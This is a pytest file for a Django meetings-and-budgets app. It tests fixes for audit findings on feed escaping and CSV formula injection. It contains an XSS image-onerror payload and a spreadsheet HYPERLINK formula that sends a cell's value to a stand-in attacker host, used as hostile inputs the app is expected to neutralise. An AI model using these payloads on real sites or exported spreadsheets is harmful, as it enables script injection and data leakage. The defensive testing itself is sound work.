"""Issue 14's numbered findings, one test each (the locking, login and crawl findings have their
own files: test_concurrent_editing.py, test_logins.py, test_crawl.py)."""

import csv
import io

import feedparser
import pytest
from django.urls import reverse

from meetings import services
from meetings.models import AgendaItem

XSS = '<img src=x onerror="alert(1)">'


def test_finding3_feed_summary_escapes_titles(package, client_for):
    item = AgendaItem.objects.get(pk=package["open_item"].pk)
    item.title = "Vækst " + XSS
    item.save()
    services.meeting_publish(meeting=package["meeting"])
    raw = client_for("anonymous").get(reverse("meetings:feed")).content.decode()
    feed = feedparser.parse(raw)
    summary = feed.entries[0].summary
    assert "<img" not in summary  # what a feed reader renders
    assert "&lt;img src=x onerror=" in summary
    assert "har fået ny titel: Vækst" in summary


@pytest.mark.django_db
def test_finding4_budget_csv_cells_cannot_start_a_formula(client_for):
    from budgets import demo
    from budgets.models import Line
    from meetings.demo import municipalities_ensure

    municipalities_ensure()
    demo.load_app_demo()
    line = Line.objects.filter(table__status="approved").first()
    line.label = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
    line.save()
    other = Line.objects.filter(table=line.table).exclude(pk=line.pk).first()
    other.label = "@SUM(1+1)"
    other.save()
    response = client_for("anonymous").get(reverse("budgets:table_csv", args=[line.table_id]))
    rows = list(csv.reader(io.StringIO(response.content.decode().lstrip("\ufeff")), delimiter=";"))
    labels = [row[0] for row in rows]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Klik")' in labels
    assert "'@SUM(1+1)" in labels
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@")), cell
            if cell.startswith("-"):
                assert cell.replace(".", "").replace(",", "").lstrip("-").isdigit(), cell


def test_csv_cell_keeps_numbers_and_neutralises_formulas():
    from meetings.text import csv_cell

    assert csv_cell("-1.234,50") == "-1.234,50"
    assert csv_cell("-12.5") == "-12.5"
    assert csv_cell(-3) == -3
    assert csv_cell("-2+3") == "'-2+3"
    assert csv_cell("+45 12 34 56 78") == "'+45 12 34 56 78"
    assert csv_cell("Drift") == "Drift"
